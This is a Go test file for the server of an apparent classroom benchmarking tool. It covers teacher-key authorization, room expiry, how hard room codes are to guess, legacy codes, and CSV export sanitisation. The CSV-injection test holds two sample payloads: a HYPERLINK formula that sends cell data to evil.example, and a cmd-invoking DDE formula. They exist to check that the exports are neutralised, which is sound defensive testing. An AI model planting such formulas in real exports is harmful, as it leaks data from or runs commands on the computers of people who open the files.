package server_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"math"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/normgym/normgym/serve/api"
	"github.com/normgym/normgym/serve/domain"
	"github.com/normgym/normgym/serve/server"
)

func TestRoomNeedsTeacher(t *testing.T) {
	key, line, err := server.NewTeacherKey("school-3")
	if err != nil {
		t.Fatal(err)
	}
	keys, err := server.ParseTeacherKeys("# teachers\n\n" + line + "\n")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(line, key) {
		t.Fatal("the key file line holds the key itself")
	}
	closed := newEnv(t, func(o *server.Options) { o.OpenRooms, o.TeacherKeys = false, keys })
	noKeys := newEnv(t, func(o *server.Options) { o.OpenRooms = false })
	open := newEnv(t, func(o *server.Options) { o.OpenRooms, o.TeacherKeys = true, keys })
	_, otherLine, _ := server.NewTeacherKey("other")
	tests := []struct {
		name   string
		e      *env
		auth   string
		status int
		code   api.Code
	}{
		{"no key", closed, "", 401, "unauthorized"},
		{"wrong key", closed, "Bearer ngt_nope", 403, "forbidden"},
		{"key file line as key", closed, "Bearer " + otherLine, 403, "forbidden"},
		{"teacher key", closed, "Bearer " + key, 201, ""},
		{"no keys issued", noKeys, "Bearer " + key, 403, "forbidden"},
		{"open site, no key", open, "", 201, ""},
		{"open site, teacher key", open, "Bearer " + key, 201, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var hdr []string
			if tc.auth != "" {
				hdr = []string{"Authorization", tc.auth}
			}
			st, b, _ := tc.e.do("POST", "/api/rooms", api.RoomRequest{Suite: "mini"}, hdr...)
			if st != tc.status {
				t.Fatalf("POST /api/rooms = %d %s, want %d", st, b, tc.status)
			}
			if tc.code != "" {
				if got := errorOf(t, b); got.Code != tc.code {
					t.Errorf("code %q, want %q", got.Code, tc.code)
				}
				return
			}
			var room api.RoomCreated
			if err := json.Unmarshal(b, &room); err != nil {
				t.Fatal(err)
			}
			if !api.ValidRoomCode(room.Code) || len(room.Code) != 14 || room.JoinURL != "/#room="+room.Code {
				t.Errorf("room code %q, join %q: want XXXX-XXXX-XXXX", room.Code, room.JoinURL)
			}
			if want := tc.e.now.Add(server.DefaultRoomTTL); !room.Expires.Equal(want) {
				t.Errorf("expires %v, want %v", room.Expires, want)
			}
			got, err := tc.e.store.Room(t.Context(), room.Code)
			wantTeacher := map[bool]string{true: "school-3", false: ""}[strings.Contains(tc.auth, key)]
			if err != nil || got.Teacher != wantTeacher {
				t.Errorf("stored room teacher %q (%v), want %q", got.Teacher, err, wantTeacher)
			}
		})
	}
	if _, err := server.ParseTeacherKeys("school-3 abc\n"); err == nil {
		t.Error("a malformed key line was accepted")
	}
	if _, _, err := server.NewTeacherKey("ann@example.org"); err == nil {
		t.Error("an email address was accepted as a key's label")
	}
}

func TestRoomExpiry(t *testing.T) {
	e := newEnv(t, func(o *server.Options) { o.RoomTTL = 48 * time.Hour })
	var room api.RoomCreated
	st, b, _ := e.do("POST", "/api/rooms", api.RoomRequest{Visits: []string{controlVisit}})
	if st != 201 || json.Unmarshal(b, &room) != nil {
		t.Fatalf("creating a room: %d %s", st, b)
	}
	// A student types the code in lower case without the dashes.
	typed := strings.ToLower(strings.ReplaceAll(room.Code, "-", ""))
	a := e.assign("student-0000001", typed)
	if a.Room != room.Code {
		t.Errorf("assignment room %q, want the canonical %q", a.Room, room.Code)
	}
	sub := submission(record(t, controlVisit, "greedy", "human"), "student-0000001")
	sub.Room = typed
	if got := e.mustSubmit(sub); got.RunID == "" {
		t.Fatal("no run id")
	}
	e.mu.Lock()
	e.now = e.now.Add(48 * time.Hour)
	e.mu.Unlock()
	auth := []string{"Authorization", "Bearer " + room.TeacherToken}
	for _, tc := range []struct {
		method, path string
		body         any
		hdr          []string
		status       int
	}{
		{"GET", "/api/rooms/" + room.Code, nil, nil, http.StatusGone},
		{"POST", "/api/assign", api.AssignRequest{Participant: "student-0000002", Room: room.Code}, nil, http.StatusGone},
		{"POST", "/api/runs", func() api.Submission {
			s := submission(record(t, controlVisit, "oracle", "human"), "student-0000002")
			s.Room = room.Code
			return s
		}(), nil, http.StatusGone},
		{"GET", "/api/rooms/" + room.Code + "/dashboard", nil, auth, http.StatusOK},
		{"GET", "/api/rooms/" + room.Code + "/export.csv", nil, auth, http.StatusOK},
	} {
		st, b, _ := e.do(tc.method, tc.path, tc.body, tc.hdr...)
		if st != tc.status {
			t.Errorf("%s %s after the room's time: %d %.200s, want %d", tc.method, tc.path, st, b, tc.status)
		}
	}
}

// TestRoomCodeGuessing computes how long guessing a live room's code
// takes at the allowed look-up rate: more than a year, as the issue asks.
func TestRoomCodeGuessing(t *testing.T) {
	const liveRooms = 1000
	bits := float64(api.RoomCodeLen) * math.Log2(float64(len(api.RoomAlphabet)))
	if bits < 60 {
		t.Fatalf("room codes carry %.1f bits, want at least 60", bits)
	}
	rate := server.DefaultLimits()[server.ClassLookup]
	perSecond := rate.PerSecond()
	// Expected guesses until one of liveRooms codes is hit: codes/liveRooms.
	guesses := math.Pow(2, bits) / liveRooms
	seconds := (guesses - float64(rate.Burst)) / perSecond
	years := seconds / (365.25 * 24 * 3600)
	t.Logf("%d symbols of %d: %.1f bits; look-ups %s per address: one of %d rooms found after %.3g years on average (%.3g years with 10,000 addresses)",
		api.RoomCodeLen, len(api.RoomAlphabet), bits, rate, liveRooms, years, years/1e4)
	if years < 1 {
		t.Errorf("guessing one of %d rooms takes %.3g years at %s, want more than a year", liveRooms, years, rate)
	}
	if years/1e4 < 1 {
		t.Errorf("from 10,000 addresses it takes %.3g years, want more than a year", years/1e4)
	}
	// The codes are random: none repeats in a few thousand.
	e := newEnv(t)
	seen := map[string]bool{}
	for range 200 {
		var room api.RoomCreated
		_, b, _ := e.do("POST", "/api/rooms", api.RoomRequest{Visits: []string{controlVisit}})
		json.Unmarshal(b, &room)
		if seen[room.Code] || !api.ValidRoomCode(room.Code) {
			t.Fatalf("code %q repeated or malformed", room.Code)
		}
		seen[room.Code] = true
	}
}

// TestCSVInjection: names that a spreadsheet would run as formulas reach
// both CSV exports neutralised; the JSON export keeps them as sent. (A
// model's name can no longer hold one, api.CheckModelName; a program's
// participant name can.)
func TestCSVInjection(t *testing.T) {
	e := newEnv(t, func(o *server.Options) { o.AdminToken = "s3cret-token" })
	var room api.RoomCreated
	_, b, _ := e.do("POST", "/api/rooms", api.RoomRequest{Suite: "mini"})
	if err := json.Unmarshal(b, &room); err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	rec := record(t, normVisit, "greedy", "model")
	rec.Agent = "gpt-x"
	sub := submission(rec, evil)
	sub.Room = room.Code
	e.mustSubmit(sub)
	rec.Agent = evil
	if st, b, _ := e.do("POST", "/api/runs", submission(rec, "+cmd|'/c_calc'!A0")); st != http.StatusBadRequest {
		t.Errorf("a formula as a model's name: %d %s, want 400", st, b)
	}
	admin := []string{"Authorization", "Bearer s3cret-token"}
	for _, p := range []struct {
		path string
		hdr  []string
	}{{"/api/export?format=csv", admin}, {"/api/rooms/" + room.Code + "/export.csv", []string{"Authorization", "Bearer " + room.TeacherToken}}} {
		st, b, _ := e.do("GET", p.path, nil, p.hdr...)
		if st != 200 {
			t.Fatalf("%s: %d %s", p.path, st, b)
		}
		var body []string
		for _, l := range strings.Split(string(b), "\n") {
			if !strings.HasPrefix(l, "# ") {
				body = append(body, l)
			}
		}
		rows, err := csv.NewReader(strings.NewReader(strings.Join(body, "\n"))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", p.path, err)
		}
		found := false
		for _, r := range rows {
			for _, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s: cell %q starts a formula", p.path, c)
				}
				found = found || c == "'"+evil
			}
		}
		if !found && p.hdr[1] == admin[1] {
			t.Errorf("%s: no cell holds the neutralised participant name", p.path)
		}
	}
	_, b, _ = e.do("GET", "/api/export?format=jsonl", nil, admin...)
	if !bytes.Contains(b, []byte(`"participant":"=HYPERLINK`)) {
		t.Error("the JSON export does not keep the name as sent")
	}
}

// TestLegacyRoomCodes: a room of the old 6-character kind (29 bits) takes
// no students, without a look-up, and its teacher still reads it.
func TestLegacyRoomCodes(t *testing.T) {
	e := newEnv(t)
	token := "legacy-teacher-token"
	sum := sha256.Sum256([]byte(token))
	if err := e.store.CreateRoom(t.Context(), domain.Room{Code: "ABC234", Suite: "mini", Visits: []string{controlVisit},
		TokenSHA256: hex.EncodeToString(sum[:]), CreatedAt: e.now}); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/api/rooms/abc234", "/api/rooms/ZZZ999"} {
		if st, b, _ := e.do("GET", p, nil); st != http.StatusGone {
			t.Errorf("GET %s: %d %s, want 410", p, st, b)
		}
	}
	if st, b, _ := e.do("POST", "/api/assign", api.AssignRequest{Participant: "student-0000001", Room: "ABC234"}); st != http.StatusGone {
		t.Errorf("POST /api/assign in room ABC234: %d %s, want 410", st, b)
	}
	var d api.Dashboard
	e.getJSON("/api/rooms/ABC234/dashboard", &d, "Authorization", "Bearer "+token)
	if d.Code != "ABC234" {
		t.Errorf("dashboard of the legacy room: %+v", d.Room)
	}
}
